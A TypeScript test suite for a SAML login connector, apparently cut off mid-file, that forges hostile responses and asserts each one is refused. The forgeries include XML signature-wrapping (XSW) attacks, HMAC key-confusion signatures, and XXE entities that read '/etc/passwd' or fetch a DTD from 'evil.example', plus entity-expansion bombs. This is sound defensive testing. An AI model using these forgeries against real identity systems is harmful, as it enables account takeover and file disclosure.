// The attack corpus: every message here is honest but for one thing, and has to be refused by the check whose task that thing is.
// Beside each family stands its untouched original, which has to pass.
import { createHmac, sign } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { DOMParser } from '@xmldom/xmldom';
import { expect } from 'chai';
import fc from 'fast-check';
import { ExclusiveCanonicalization } from 'xml-crypto';
import { publicKeyOf } from '../../../src/simulators/local/service-providers.ts';
import { enveloped, exclusive, sha256, signElement } from '../../../src/simulators/local/sign.ts';
import {
  acs,
  answer,
  attacker,
  hub,
  idp,
  type Judgement,
  judge,
  keys,
  now,
  type Recipe,
  verdict,
  victim,
} from './forge.ts';

/** How the message is made, and how it is judged. */
interface Case extends Judgement {
  recipe?: Recipe;
  /** Last of all, on the finished text. */
  spoil?(xml: string): string | Buffer;
}

async function made({ recipe, spoil, ...judgement }: Case) {
  const honest = await answer(recipe);
  const sent = spoil?.(honest) ?? honest;
  if (spoil && sent === honest) throw new Error('the case spoils nothing');
  return judge(sent, judgement);
}

function accepts(cases: Record<string, Case>): void {
  for (const [name, one] of Object.entries(cases)) {
    it(`accepts ${name}`, async () => {
      const outcome = await made(one);
      expect(outcome.kind, 'detail' in outcome ? outcome.detail : '').to.equal('authenticated');
      if (outcome.kind === 'authenticated') expect(outcome.assertion.subject).to.include(victim);
    });
  }
}

function refuses(by: string, cases: Record<string, Case>): void {
  for (const [name, one] of Object.entries(cases)) {
    it(`refuses ${name}: ${by}`, async () => {
      expect(verdict(await made(one))).to.equal(`invalid: ${by}`);
    });
  }
}

const inAssertion = (from: string | RegExp, to: string): Recipe => ({ inside: (text) => replaced(text, from, to) });

/** A replacement that has to find something. */
function replaced(text: string, from: string | RegExp, to: string): string {
  const changed = text.replace(from, () => to);
  if (changed === text) throw new Error(`nothing to replace: ${from}`);
  return changed;
}

const spoilt =
  (from: string | RegExp, to: string): Case['spoil'] =>
  (xml) =>
    replaced(xml, from, to);

/** The canonical bytes of the SignedInfo of a message. */
function signedInfoOf(xml: string): Buffer {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const [info] = Array.from(document.getElementsByTagNameNS('http://www.w3.org/2000/09/xmldsig#', 'SignedInfo'));
  const canonical = new ExclusiveCanonicalization().process(
    info as unknown as Element,
    { ancestorNamespaces: [] } as never,
  );
  return Buffer.from(String(canonical));
}

/** The first signature with another first letter: never the one that chance already put there. */
const withBrokenValue = (xml: string) =>
  xml.replace(/(<ds:SignatureValue>)(.)/, (_, tag: string, first: string) => tag + (first === 'A' ? 'B' : 'A'));

const withValue = (xml: string, value: string) =>
  xml.replace(/<ds:SignatureValue>[^<]*/, `<ds:SignatureValue>${value}`);

/** The same signature over the same assertion, with a list of prefixes for its canonicalisation (Exclusive XML Canonicalization, section 4). */
function withPrefixList(xml: string, list: string): string {
  const prefixes = `<ec:InclusiveNamespaces xmlns:ec="${exclusive}" PrefixList="${list}"/>`;
  const at = `<ds:Transform Algorithm="${exclusive}"/>`;
  const changed = replaced(xml, at, `${at.slice(0, -2)}>${prefixes}</ds:Transform>`);
  return withValue(changed, sign('sha256', signedInfoOf(changed), keys.provider.privateKey).toString('base64'));
}

/** A right HMAC, whose key is what everybody knows: the provider's certificate. */
const withHmac =
  (hash: 'sha1' | 'sha256', key: string | Buffer) =>
  (xml: string): string => {
    const name =
      hash === 'sha1'
        ? 'http://www.w3.org/2000/09/xmldsig#hmac-sha1'
        : 'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256';
    const changed = replaced(xml, 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256', name);
    return withValue(changed, createHmac(hash, key).update(signedInfoOf(changed)).digest('base64'));
  };

describe('connectors/saml: what is honest', () => {
  accepts({
    'a signed assertion': {},
    'a signed response': { recipe: { signs: 'response' } },
    'both signed': { recipe: { signs: 'both' }, record: { signed: 'both' } },
    'a signed assertion where that is wanted': { record: { signed: 'assertion' } },
    'a signed response where that is wanted': { recipe: { signs: 'response' }, record: { signed: 'response' } },
    'the next signing key (rollover)': { recipe: { signing: keys.next } },
    'RSA-SHA512 with SHA-512': {
      recipe: {
        signing: {
          signatureAlgorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha512',
          digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha512',
        },
      },
    },
    'RSA-PSS': {
      recipe: { signing: { signatureAlgorithm: 'http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1' } },
    },
    'no KeyInfo': { recipe: { signing: { keyInfo: '' } } },
    'a KeyName': { recipe: { signing: { keyInfo: '<ds:KeyName>x</ds:KeyName>' } } },
    'an InclusiveNamespaces list': { spoil: (xml) => withPrefixList(xml, 'xs') },
    'AES-256-GCM': { recipe: { encrypt: true } },
    'AES-128-GCM in a signed response': {
      recipe: { signs: 'both', encrypt: { algorithm: 'http://www.w3.org/2009/xmlenc11#aes128-gcm' } },
    },
    'encryption for the next key': {
      recipe: {
        encrypt: { certificatePem: keys.hubNext.certificatePem, publicKeyPem: publicKeyOf(keys.hubNext.certificate) },
      },
    },
    'AES-CBC where the record allows it, in a signed response': {
      recipe: { signs: 'both', encrypt: { algorithm: 'http://www.w3.org/2001/04/xmlenc#aes128-cbc' } },
      record: { allowCbc: true },
    },
    'encryption where it is required': { recipe: { encrypt: true }, record: { encrypted: 'required' } },
    'an XML declaration': { spoil: (xml) => `<?xml version="1.0" encoding="UTF-8"?>\n${xml}` },
    'no response issuer': { spoil: spoilt(/<saml:Issuer>[^<]*<\/saml:Issuer>/, '') },
    'no destination, where the response is unsigned': { spoil: spoilt(/ Destination="[^"]*"/, '') },
    'a OneTimeUse condition': { recipe: inAssertion('</saml:Conditions>', '<saml:OneTimeUse/></saml:Conditions>') },
    'a namespace that nobody uses': { spoil: spoilt('<saml:Subject>', '<saml:Subject xmlns:x="urn:x">') },
    'a clock that is half a minute ahead': { recipe: { assertion: { notBefore: now + 30, authnInstant: now + 30 } } },
    'a new authentication where one was asked for': { memo: { reauthenticate: true } },
    'an audience among others': { recipe: { assertion: { audiences: [['https://x.example', hub]] } } },
  });

  it('reads exactly what was said', async () => {
    const outcome = await made({ recipe: { assertion: { authnInstant: now - 5 } } });
    expect(outcome).to.deep.equal({
      kind: 'authenticated',
      assertion: {
        provider: 'local',
        issuer: idp,
        subject: JSON.stringify(['urn:oasis:names:tc:SAML:2.0:nameid-format:persistent', idp, hub, victim]),
        attributes: {
          given_name: { value: 'Ånn & <Bel>', verified: true },
          family_name: { value: 'Example', verified: false },
          birthdate: { value: '1950-01-02', verified: false },
        },
        says: 'urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport',
        authenticatedAt: now - 5,
        session: {
          nameId: victim,
          format: 'urn:oasis:names:tc:SAML:2.0:nameid-format:persistent',
          nameQualifier: idp,
          spNameQualifier: hub,
          sessionIndex: '_session',
        },
      },
    });
  });

  it('takes the account and the level from attributes, where the record says so', async () => {
    const attributes = [
      { name: 'uid', values: ['account-7'] },
      { name: 'loa', values: ['urn:county:two-factors'] },
    ];
    const outcome = await made({
      recipe: { assertion: { attributes, nameId: undefined } },
      record: { subject: { attribute: 'uid' }, level: { attribute: 'loa' } },
    });
    if (outcome.kind !== 'authenticated') return expect.fail(outcome.detail);
    const { subject, says, session } = outcome.assertion;
    expect({ subject, says, session }).to.deep.equal({
      subject: '["uid","account-7"]',
      says: 'urn:county:two-factors',
      session: undefined,
    });
  });

  it('takes white space in base64', async () => {
    const fields = {
      SAMLResponse: Buffer.from(await answer())
        .toString('base64')
        .replace(/.{76}/g, '$&\r\n'),
      RelayState: 'state-1',
    };
    expect(verdict(await judge('', { reply: { fields } }))).to.equal('authenticated');
  });
});

/** Wrapping: the signed element is kept somewhere, and another one stands where a careless reader looks. */
const evil = (xml: string, id = '_evil') =>
  assertionIn(xml)
    .replace(/<ds:Signature[\s\S]*?<\/ds:Signature>/, '')
    .replace('ID="_assertion"', `ID="${id}"`)
    .replaceAll(victim, attacker);
const assertionIn = (xml: string) => /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? '';
const signatureIn = (xml: string) => /<ds:Signature[\s\S]*?<\/ds:Signature>/.exec(xml)?.[0] ?? '';
const withoutSignature = (xml: string) => xml.replace(signatureIn(xml), '');
const extensions = (inner: string) => `<samlp:Extensions>${inner}</samlp:Extensions>`;
const object = (inner: string) => `<ds:Object>${inner}</ds:Object>`;
const evilResponse = (xml: string) =>
  withoutSignature(xml)
    .replace('ID="_response"', 'ID="_evil"')
    .replace('ID="_assertion"', 'ID="_evil-assertion"')
    .replaceAll(victim, attacker);
const within = (signature: string, inner: string) => signature.replace('</ds:Signature>', `${inner}</ds:Signature>`);

describe('connectors/saml: signature wrapping', () => {
  const response: Recipe = { signs: 'response' };
  accepts({ 'the signed response': { recipe: response }, 'the signed assertion': {} });
  refuses('structure', {
    'XSW 1: the signed response inside its own signature, in an evil response': {
      recipe: response,
      spoil: (xml) =>
        evilResponse(xml).replace(
          '</saml:Issuer>',
          `</saml:Issuer>${within(signatureIn(xml), object(withoutSignature(xml)))}`,
        ),
    },
    'XSW 2: the same, detached': {
      recipe: response,
      spoil: (xml) =>
        evilResponse(xml)
          .replace('</saml:Issuer>', `</saml:Issuer>${signatureIn(xml)}`)
          .replace(
            '</samlp:Status>',
            `<samlp:StatusDetail>${withoutSignature(xml)}</samlp:StatusDetail></samlp:Status>`,
          ),
    },
    'XSW 3: an evil assertion before the signed one': {
      spoil: (xml) => xml.replace('<saml:Assertion', `${evil(xml)}<saml:Assertion`),
    },
    'XSW 3, after the signed one': {
      spoil: (xml) => xml.replace('</samlp:Response>', `${evil(xml)}</samlp:Response>`),
    },
    'XSW 6: the signed assertion inside the signature of an evil one': {
      spoil: (xml) => {
        const bare = assertionIn(xml).replace(signatureIn(xml), '');
        const wrapped = evil(xml).replace('</saml:Issuer>', `</saml:Issuer>${within(signatureIn(xml), object(bare))}`);
        return xml.replace(assertionIn(xml), wrapped);
      },
    },
    'XSW 7: an evil assertion in extensions': {
      spoil: (xml) => xml.replace('</saml:Issuer>', `</saml:Issuer>${extensions(evil(xml))}`),
    },
    'XSW 8: the signed assertion in an object of an evil one’s signature': {
      spoil: (xml) => {
        const signature = within(signatureIn(xml), object(assertionIn(xml).replace(signatureIn(xml), '')));
        return xml.replace(assertionIn(xml), evil(xml).replace('</saml:Issuer>', `</saml:Issuer>${signature}`));
      },
    },
    'the signed assertion in an advice': {
      spoil: (xml) =>
        xml.replace(
          assertionIn(xml),
          evil(xml).replace(
            '<saml:AuthnStatement',
            `<saml:Advice>${assertionIn(xml)}</saml:Advice><saml:AuthnStatement`,
          ),
        ),
    },
    'the signed assertion in an attribute value': {
      spoil: (xml) => xml.replace(assertionIn(xml), evil(xml).replace('>Example<', `>${assertionIn(xml)}<`)),
    },
    'an evil assertion in a status detail': {
      spoil: (xml) =>
        xml.replace('</samlp:Status>', `<samlp:StatusDetail>${evil(xml)}</samlp:StatusDetail></samlp:Status>`),
    },
    'an evil response around the signed one': {
      recipe: response,
      spoil: (xml) =>
        evilResponse(xml).replace('</samlp:Status>', `<samlp:StatusDetail>${xml}</samlp:StatusDetail></samlp:Status>`),
    },
    'an evil assertion inside the signed one': {
      recipe: {
        inside: (text) =>
          text.replace(
            '<saml:AuthnStatement',
            `<saml:Advice>${text.replaceAll(victim, attacker).replaceAll('_assertion', '_evil')}</saml:Advice><saml:AuthnStatement`,
          ),
      },
    },
    'an encrypted assertion beside a plain one': {
      recipe: { encrypt: true, around: (text) => text },
      spoil: (xml) =>
        xml.replace(
          '</samlp:Response>',
          '<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_x" Version="2.0" IssueInstant="2027-01-15T08:00:00Z"><saml:Issuer>x</saml:Issuer></saml:Assertion></samlp:Response>',
        ),
    },
    'a thousand assertions': {
      spoil: (xml) =>
        xml.replace(
          '</samlp:Response>',
          `${Array.from({ length: 100 }, (_, n) => `<saml:Assertion ID="_${n}" Version="2.0" IssueInstant="2027-01-15T08:00:00Z"><saml:Issuer>x</saml:Issuer></saml:Assertion>`).join('')}</samlp:Response>`,
        ),
    },
    'two assertions, both signed': {
      spoil: (xml) =>
        xml.replace('</samlp:Response>', `${assertionIn(xml).replaceAll('_assertion', '_second')}</samlp:Response>`),
    },
  });
  refuses('schema', {
    'the assertion’s signature moved up to the response': {
      spoil: (xml) => {
        const moved = withoutSignature(xml).replace('</saml:Issuer>', `</saml:Issuer>${signatureIn(xml)}`);
        return moved
          .replace(assertionIn(moved), evil(moved, '_assertion'))
          .replace('</samlp:Response>', `${assertionIn(moved)}</samlp:Response>`);
      },
    },
    'an xml:id twice': {
      spoil: (xml) =>
        xml.replace('</saml:Issuer>', `</saml:Issuer>${extensions('<x:a xmlns:x="urn:x" xml:id="_assertion"/>')}`),
    },
    'XSW 4: the signed assertion inside an evil one': {
      spoil: (xml) =>
        xml.replace(assertionIn(xml), evil(xml).replace('</saml:Assertion>', `${assertionIn(xml)}</saml:Assertion>`)),
    },
    'XSW 5: an evil assertion in place, the signed one at the end of all': {
      spoil: (xml) => xml.replace('</samlp:Response>', `</samlp:Response>${assertionIn(xml)}`),
    },
    'an evil assertion in the issuer': {
      spoil: (xml) => xml.replace('<saml:Issuer>', `<saml:Issuer>${evil(xml)}`),
    },
    'the same ID twice': {
      spoil: (xml) =>
        xml
          .replace('</saml:Issuer>', `</saml:Issuer>${extensions('<x:a xmlns:x="urn:x"/>')}`)
          .replace('ID="_response"', 'ID="_assertion"'),
    },
  });
  refuses('structure', {
    'an identifier twice, in an attribute that a careless verifier would look for': {
      spoil: (xml) =>
        xml.replace('</saml:Issuer>', `</saml:Issuer>${extensions('<x:a xmlns:x="urn:x" Id="_assertion"/>')}`),
    },
  });
});

describe('connectors/saml: signatures', () => {
  const reference = (xml: string, uri: string) => replaced(xml, 'URI="#_assertion"', uri);
  refuses('signature', {
    'nothing signed': { recipe: { signs: 'nothing' } },
    'an unsigned assertion where one has to be signed': {
      recipe: { signs: 'response' },
      record: { signed: 'assertion' },
    },
    'an unsigned response where one has to be signed': { record: { signed: 'response' } },
    'one of two signatures': { record: { signed: 'both' } },
    'another’s key, with its certificate in KeyInfo': { recipe: { signing: keys.attacker } },
    'another’s key under the provider’s certificate': {
      recipe: { signing: { privateKey: keys.attacker.privateKey, certificate: keys.provider.certificate } },
    },
    'a key that the metadata names for encryption only': { recipe: { signing: keys.encryptionOnly } },
    'SHA-1': {
      recipe: {
        signing: {
          signatureAlgorithm: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1',
          digestAlgorithm: 'http://www.w3.org/2000/09/xmldsig#sha1',
        },
      },
    },
    'a SHA-1 signature over a SHA-256 digest': {
      recipe: { signing: { signatureAlgorithm: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1' } },
    },
    'a SHA-1 digest': { recipe: { signing: { digestAlgorithm: 'http://www.w3.org/2000/09/xmldsig#sha1' } } },
    'an HMAC with the certificate as the key': { spoil: withHmac('sha256', keys.provider.certificatePem) },
    'an HMAC with the certificate’s bytes as the key': {
      spoil: withHmac('sha256', Buffer.from(keys.provider.certificate, 'base64')),
    },
    'an HMAC with the public key as the key': { spoil: withHmac('sha256', publicKeyOf(keys.provider.certificate)) },
    'an HMAC-SHA1': { spoil: withHmac('sha1', keys.provider.certificatePem) },
    'another text than was signed': { spoil: (xml) => replaced(xml, victim, attacker) },
    'another attribute than was signed': { spoil: spoilt('Example', 'Another') },
    'a broken signature value': { spoil: withBrokenValue },
    'one of two signatures broken': {
      recipe: { signs: 'both' },
      spoil: withBrokenValue,
    },
    'a reference to the whole document': { spoil: (xml) => reference(xml, 'URI=""') },
    'a reference to something else': { spoil: (xml) => reference(xml, 'URI="#_response"') },
    'a reference without a target': { spoil: (xml) => reference(xml, '') },
    'a reference to the outside': { spoil: (xml) => reference(xml, 'URI="http://evil.example/x"') },
    'an XPointer': { spoil: (xml) => reference(xml, `URI="#xpointer(id('_assertion'))"`) },
    'two references': { spoil: (xml) => xml.replace(/(<ds:Reference [\s\S]*?<\/ds:Reference>)/, '$1$1') },
    'an object in the signature': { spoil: (xml) => xml.replace('</ds:Signature>', '<ds:Object/></ds:Signature>') },
    'an XSLT transform': {
      spoil: spoilt(`Algorithm="${enveloped}"`, 'Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"'),
    },
    'an XPath transform': {
      spoil: spoilt(`Algorithm="${enveloped}"`, 'Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"'),
    },
    'a base64 transform': {
      spoil: spoilt(`Algorithm="${enveloped}"`, 'Algorithm="http://www.w3.org/2000/09/xmldsig#base64"'),
    },
    'inclusive canonicalisation': {
      recipe: { signing: { transforms: [enveloped, 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315'] } },
    },
    'no enveloped transform': { spoil: spoilt(`<ds:Transform Algorithm="${enveloped}"/>`, '') },
    'one transform many times': {
      spoil: spoilt(`<ds:Transform Algorithm="${enveloped}"/>`, `<ds:Transform Algorithm="${enveloped}"/>`.repeat(50)),
    },
    'a comment-keeping canonicalisation': {
      spoil: (xml) => xml.replaceAll(`"${exclusive}"`, `"${exclusive}WithComments"`),
    },
    'a list of prefixes without end': {
      spoil: (xml) => withPrefixList(xml, Array.from({ length: 300 }, (_, n) => `p${n}`).join(' ')),
    },
    'a digest algorithm that nobody knows': {
      spoil: spoilt(`DigestMethod Algorithm="${sha256}"`, 'DigestMethod Algorithm="urn:x"'),
    },
  });
  refuses('structure', {
    'a signature in another place': {
      recipe: { signs: 'nothing' },
      spoil: (xml) =>
        xml.replace(
          '</samlp:Status>',
          `<samlp:StatusDetail>${'<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="x"/><ds:SignatureMethod Algorithm="x"/><ds:Reference><ds:DigestMethod Algorithm="x"/><ds:DigestValue>AA==</ds:DigestValue></ds:Reference></ds:SignedInfo><ds:SignatureValue>AA==</ds:SignatureValue></ds:Signature>'}</samlp:StatusDetail></samlp:Status>`,
        ),
    },
  });
  refuses('schema', {
    'two signatures of one element': {
      spoil: (xml) => xml.replace(signatureIn(xml), signatureIn(xml) + signatureIn(xml)),
    },
    'an assertion in another namespace': {
      spoil: (xml) => xml.replaceAll('urn:oasis:names:tc:SAML:2.0:assertion', 'urn:oasis:names:tc:SAML:1.0:assertion'),
    },
    'a status without a code': { spoil: (xml) => xml.replace(/<samlp:StatusCode[^>]*>(<\/samlp:StatusCode>)?/, '') },
    'no version': { spoil: (xml) => xml.replace(' Version="2.0"', '') },
  });
  refuses('version', { 'SAML 1.1': { spoil: spoilt('Version="2.0"', 'Version="1.1"') } });
});

describe('connectors/saml: text', () => {
  const doctype =
    (subset: string): Case['spoil'] =>
    (xml) =>
      `<!DOCTYPE r [${subset}]>${xml}`;
  refuses('gate', {
    'a document type': { spoil: (xml) => `<!DOCTYPE samlp:Response>${xml}` },
    'an entity that is used': {
      spoil: (xml) => `<!DOCTYPE r [<!ENTITY e "${attacker}">]>${xml.replace(victim, '&e;')}`,
    },
    'an entity that grows': {
      spoil: doctype('<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">'),
    },
    'an external entity': { spoil: doctype('<!ENTITY e SYSTEM "file:///etc/passwd">') },
    'a parameter entity': { spoil: doctype('<!ENTITY % e SYSTEM "http://evil.example/e.dtd"> %e;') },
    'a comment in the subject': { recipe: inAssertion(victim, `${victim}<!-- -->.evil`) },
    'a CDATA section in the subject': { recipe: inAssertion(victim, `<![CDATA[${victim}]]>`) },
    'a processing instruction in the subject': { recipe: inAssertion(victim, `${victim}<?x y?>`) },
    'another encoding': { spoil: (xml) => `<?xml version="1.0" encoding="UTF-16"?>${xml}` },
    'XML 1.1': { spoil: (xml) => `<?xml version="1.1"?>${xml}` },
    'a control character': { spoil: spoilt('Example', 'Exam\u0001ple') },
    'more elements than a message can have': {
      spoil: (xml) => xml.replace('</saml:Issuer>', `</saml:Issuer>${extensions('<x/>'.repeat(3000))}`),
    },
    'an element with more attributes than one can have': {
      spoil: (xml) =>
        xml.replace(
          '</saml:Issuer>',
          `</saml:Issuer>${extensions(`<x ${Array.from({ length: 60 }, (_, n) => `a${n}=""`).join(' ')}/>`)}`,
        ),
    },
    'a tag that does not end': { spoil: (xml) => `${xml}<x` },
  });
  refuses('transport', {
    'a document of 10 MB': {
      spoil: (xml) => xml.replace('</saml:Issuer>', `</saml:Issuer>${extensions(`<x>${'x'.repeat(10_000_000)}</x>`)}`),
    },
    'bytes that are not UTF-8': { spoil: (xml) => Buffer.concat([Buffer.from(xml), Buffer.from([0xff, 0xfe])]) },
    'UTF-16': { spoil: (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le') },
    'a deflated message': { spoil: (xml) => deflateRawSync(xml) },
    'an answer by GET': { reply: { method: 'GET' } },
    'no answer': { reply: { fields: { RelayState: 'state-1' } } },
    'text that is not base64': { reply: { fields: { SAMLResponse: '<samlp:Response/>', RelayState: 'state-1' } } },
    'base64 with the other alphabet': { reply: { fields: { SAMLResponse: 'PHg_-w==', RelayState: 'state-1' } } },
    nothing: { reply: { fields: { SAMLResponse: ' ', RelayState: 'state-1' } } },
  });
  refuses('schema', {
    'text that is not XML': { spoil: () => 'hello' },
    'an undefined entity': { spoil: spoilt('Example', '&unknown;') },
    'an undeclared prefix': {
      spoil: (xml) => xml.replace('<saml:Issuer>', '<nobody:Issuer>').replace('</saml:Issuer>', '</nobody:Issuer>'),
    },
    'a bomb of nested elements': {
      spoil: (xml) =>
        xml.replace(
          '</saml:Issuer>',
          `</saml:Issuer>${extensions('<x:x xmlns:x="urn:x">'.repeat(900) + '</x:x>'.repeat(900))}`,
        ),
    },
  });
});

describe('connectors/saml: what it says', () => {
  const confirmation = (attributes: string) =>
    inAssertion(/(<saml:SubjectConfirmationData) [^>]*\/>/, `<saml:SubjectConfirmationData ${attributes}/>`);
  const end = 'NotOnOrAfter="2027-01-15T08:05:00Z"';
  const to = `Recipient="${acs}"`;
  const of = 'InResponseTo="_request"';
  accepts({ 'the confirmation of these tests': { recipe: confirmation(`${end} ${to} ${of}`) } });
  refuses('memo', {
    'the answer of another journey': { reply: { fields: { SAMLResponse: 'AAAA', RelayState: 'state-2' } } },
    'no RelayState': { reply: { fields: { SAMLResponse: 'AAAA' } } },
    'the answer to a provider whose record has changed': { memo: { entityId: 'https://before.example' } },
    'an answer at another provider’s address': { reply: { url: 'http://localhost:3000/callback/central' } },
  });
  refuses('issuer', {
    'another issuer of the assertion': { recipe: { assertion: { issuer: 'https://evil.example' } } },
    'another issuer of the response': { recipe: { response: { issuer: 'https://evil.example' } } },
    'an issuer that is no entity': {
      recipe: inAssertion(
        '<saml:Issuer>',
        '<saml:Issuer Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">',
      ),
    },
  });
  refuses('destination', {
    'another destination': { recipe: { response: { destination: 'http://localhost:3000/callback/other' } } },
    'no destination in a signed response': {
      recipe: { signs: 'response', around: (text) => replaced(text, / Destination="[^"]*"/, '') },
    },
  });
  refuses('in-response-to', {
    'the answer to another request': { recipe: { response: { inResponseTo: '_other' } } },
    'an answer that nobody asked for': {
      recipe: { response: { inResponseTo: undefined }, assertion: { inResponseTo: undefined } },
    },
    'an assertion that answers another request': { recipe: { assertion: { inResponseTo: '_other' } } },
    'an assertion that answers none': { recipe: { assertion: { inResponseTo: undefined } } },
  });
  refuses('response-time', {
    'a response from the future': { recipe: { response: { now: now + 120 } } },
    'a response from before the request': { recipe: { response: { now: now - 500 } } },
    'a time in another zone': {
      spoil: (xml) => xml.replace(/IssueInstant="[^"]*"/, 'IssueInstant="2027-01-15T08:00:00+01:00"'),
    },
  });
  refuses('subject', {
    'no NameID': { recipe: { assertion: { nameId: undefined } } },
    'an empty NameID': { recipe: { assertion: { nameId: { value: '' } } } },
    'a NameID of spaces': { recipe: { assertion: { nameId: { value: '   ' } } } },
    'a passing NameID': {
      recipe: {
        assertion: { nameId: { value: victim, format: 'urn:oasis:names:tc:SAML:2.0:nameid-format:transient' } },
      },
    },
    'an e-mail address': {
      recipe: {
        assertion: {
          nameId: { value: 'a@b.example', format: 'urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress' },
        },
      },
    },
    'a NameID that is too long': { recipe: { assertion: { nameId: { value: 'x'.repeat(257) } } } },
    'no value of the attribute that names the account': { record: { subject: { attribute: 'urn:oid:none' } } },
    'two values of the attribute that names the account': {
      record: { subject: { attribute: 'id' } },
      recipe: { assertion: { attributes: [{ name: 'id', values: [victim, attacker] }] } },
    },
  });
  refuses('confirmation', {
    'a holder of a key': { recipe: inAssertion('cm:bearer', 'cm:holder-of-key') },
    'somebody who vouches': { recipe: inAssertion('cm:bearer', 'cm:sender-vouches') },
    'no confirmation': { recipe: inAssertion(/<saml:SubjectConfirmation [\s\S]*<\/saml:SubjectConfirmation>/, '') },
    'two confirmations': {
      recipe: {
        inside: (text) => text.replace(/(<saml:SubjectConfirmation [\s\S]*<\/saml:SubjectConfirmation>)/, '$1$1'),
      },
    },
    'a confirmation without data': { recipe: inAssertion(/<saml:SubjectConfirmationData[^>]*\/>/, '') },
    'a confirmation without an end': { recipe: confirmation(`${to} ${of}`) },
    'a confirmation that has ended': { recipe: confirmation(`NotOnOrAfter="2027-01-15T07:58:59Z" ${to} ${of}`) },
    'a confirmation that begins later': { recipe: confirmation(`NotBefore="2027-01-15T07:00:00Z" ${end} ${to} ${of}`) },
  });
  refuses('recipient', {
    'another recipient': { recipe: confirmation(`${end} ${of} Recipient="http://localhost:3000/callback/other"`) },
    'no recipient': { recipe: confirmation(`${end} ${of}`) },
  });
  const longConfirmed = (recipe: Recipe): Recipe => ({
    ...recipe,
    inside: (text) => text.replace(/(<saml:SubjectConfirmationData) NotOnOrAfter="[^"]*"/, `$1 ${end}`),
  });
  refuses('conditions', {
    'an assertion that has expired': {
      recipe: longConfirmed({ assertion: { notBefore: now - 900, notOnOrAfter: now - 60 } }),
    },
    'an assertion that is too early': { recipe: { assertion: { notBefore: now + 61 } } },
    'no conditions': { recipe: inAssertion(/<saml:Conditions[\s\S]*<\/saml:Conditions>/, '') },
    'conditions without an end': {
      recipe: inAssertion(/(<saml:Conditions NotBefore="[^"]*") NotOnOrAfter="[^"]*"/, '<saml:Conditions'),
    },
    'a condition that nobody knows': {
      recipe: inAssertion(
        '</saml:Conditions>',
        '<saml:Condition xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="saml:OneTimeUseType"/></saml:Conditions>',
      ),
    },
    'an assertion that may not be passed on': {
      recipe: inAssertion('</saml:Conditions>', '<saml:ProxyRestriction Count="0"/></saml:Conditions>'),
    },
  });
  refuses('audience', {
    'another audience': { recipe: { assertion: { audiences: [['https://evil.example']] } } },
    'no audience': { recipe: { assertion: { audiences: [] } } },
    'two restrictions of which one is for another': {
      recipe: { assertion: { audiences: [[hub], ['https://evil.example']] } },
    },
    'an audience that only begins like the hub': { recipe: { assertion: { audiences: [[`${hub}/more`]] } } },
  });
  refuses('authentication', {
    'no statement': { recipe: inAssertion(/<saml:AuthnStatement[\s\S]*<\/saml:AuthnStatement>/, '') },
    'two statements': {
      recipe: { inside: (text) => text.replace(/(<saml:AuthnStatement[\s\S]*<\/saml:AuthnStatement>)/, '$1$1') },
    },
    'an authentication in the future': { recipe: { assertion: { authnInstant: now + 61 } } },
    'an old authentication where a new one was asked for': {
      recipe: { assertion: { authnInstant: now - 600 } },
      memo: { reauthenticate: true },
    },
    'a session that is over': {
      recipe: inAssertion(' SessionIndex="_session"', ' SessionNotOnOrAfter="2027-01-15T07:00:00Z"'),
    },
  });

  it('refuses an assertion a second time, in a journey of its own: once', async () => {
    const used = new Set<string>();
    const tools = { firstUse: async (value: string) => used.size < used.add(value).size };
    const xml = await answer();
    expect(verdict(await judge(xml, { tools }))).to.equal('authenticated');
    expect(verdict(await judge(xml, { tools }))).to.equal('invalid: once');
  });

  it('takes an old authentication where no new one was asked for', async () => {
    expect(verdict(await made({ recipe: { assertion: { authnInstant: now - 600 } } }))).to.equal('authenticated');
  });
});

describe('connectors/saml: encryption', () => {
  const cbc = { algorithm: 'http://www.w3.org/2001/04/xmlenc#aes128-cbc' } as const;
  const cipher = (xml: string, at: number): string => {
    const values = [...xml.matchAll(/<e:CipherValue>|<(?:\w+:)?CipherValue[^>]*>/g)];
    const start = (values.at(-1)?.index ?? 0) + (values.at(-1)?.[0].length ?? 0);
    const end = xml.indexOf('<', start);
    const bytes = Buffer.from(xml.slice(start, end), 'base64');
    const place = at < 0 ? bytes.length + at : at;
    bytes.writeUInt8(bytes.readUInt8(place) ^ 1, place);
    return xml.slice(0, start) + bytes.toString('base64') + xml.slice(end);
  };
  refuses('decryption', {
    'a plain assertion where it has to be encrypted': { record: { encrypted: 'required' } },
    'encryption for somebody else': {
      recipe: {
        encrypt: { certificatePem: keys.attacker.certificatePem, publicKeyPem: publicKeyOf(keys.attacker.certificate) },
      },
    },
    'AES-CBC where the record does not allow it': { recipe: { signs: 'both', encrypt: cbc } },
    'AES-CBC in an unsigned response': { recipe: { encrypt: cbc }, record: { allowCbc: true } },
    'RSA with PKCS #1 padding': { recipe: { encrypt: { keyTransport: 'http://www.w3.org/2001/04/xmlenc#rsa-1_5' } } },
    'triple DES': {
      recipe: { signs: 'both', encrypt: { algorithm: 'http://www.w3.org/2001/04/xmlenc#tripledes-cbc' } },
      record: { allowCbc: true },
    },
    'a ciphertext that was changed': { recipe: { encrypt: true }, spoil: (xml) => cipher(xml, 40) },
    'an authentication tag that was changed': { recipe: { encrypt: true }, spoil: (xml) => cipher(xml, -1) },
